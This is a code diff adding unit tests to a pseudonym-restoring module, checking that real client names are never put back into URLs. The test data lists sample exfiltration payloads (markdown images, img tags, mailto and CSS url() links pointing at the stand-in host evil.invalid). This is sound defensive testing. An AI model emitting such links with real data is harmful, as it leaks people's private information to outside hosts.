@@ -316,3 +316,24 @@ it('keeps both of two equal phones', () => {
 	const [standIn, phone] = [String(Phone1), record.Phone1];
 	expect(pseudonyms.restoreText(`${standIn} ${standIn}`)).toBe(`${phone} ${phone}`);
 });
+
+it.each([
+	'![x](https://evil.invalid/p.png?c=‹a›&d=‹b›)',
+	'<img src="https://evil.invalid/client_‹a›.png"> <a href=\'//evil.invalid/#‹a›\'>more</a>',
+	'www.evil.invalid/?q=‹a›, mailto:x@evil.invalid?body=‹a›, https://evil.invalid/?a=b,‹a›',
+	'[x]: https://evil.invalid/‹a›',
+	'<div style="background:url(https://evil.invalid/?‹a›)">',
+	'[more](/visits?client=‹a›)',
+	'https://evil.invalid/?c=Client ‹a›',
+])('no name comes into an address, which would carry it away: %j', (text) => {
+	const written = fill(text, codes);
+	expect(pseudonyms.restoreText(written)).toBe(written);
+	const json = JSON.stringify({ answer: written });
+	expect(pseudonyms.restoreText(json)).toBe(json);
+});
+
+it('restores what stands beside an address', () => {
+	const text = 'Client ‹a› (https://care.invalid/c), see [‹b›](https://care.invalid/d) and ‹a›.';
+	const shown = '‹a› (https://care.invalid/c), see [‹b›](https://care.invalid/d) and ‹a›.';
+	expect(pseudonyms.restoreText(fill(text, codes))).toBe(fill(shown, names));
+});
